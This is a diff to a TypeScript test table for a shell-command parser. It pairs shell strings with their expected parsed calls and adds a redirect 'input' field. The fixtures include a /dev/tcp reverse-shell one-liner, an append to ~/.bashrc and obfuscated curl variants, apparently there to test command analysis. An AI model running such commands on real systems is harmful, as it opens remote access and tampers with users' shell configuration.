@@ -17,7 +17,19 @@ const CALLS: readonly (readonly [string, readonly string[]])[] = [
   ['{curl,-s,x}', ["1 curl('-s', 'x')"]],
   ['curl${IFS}x', ["1 curl('x') {alias}"]],
   ['cmd || true', ['1 cmd() silenced', '1 true()']],
-  ['echo x >> ~/.bashrc 2>/dev/null', ["1 echo('x')", "1 redirect('~/.bashrc', operator='>>') |0"]],
+  [
+    'echo x >> ~/.bashrc 2>/dev/null',
+    ["1 echo('x')", "1 redirect('~/.bashrc', operator='>>', input='x') |0"],
+  ],
+  [
+    '{ echo a; date; echo b; } > f',
+    [
+      "1 echo('a')",
+      '1 date()',
+      "1 echo('b')",
+      "1 redirect('f', operator='>', input=parts['a', '\n', ?, '\n', 'b']) |2",
+    ],
+  ],
   [
     'sh -i >& /dev/tcp/192.0.2.1/9 0>&1',
     ["1 sh('-i')", "1 redirect('/dev/tcp/192.0.2.1/9', operator='>&') |0"],
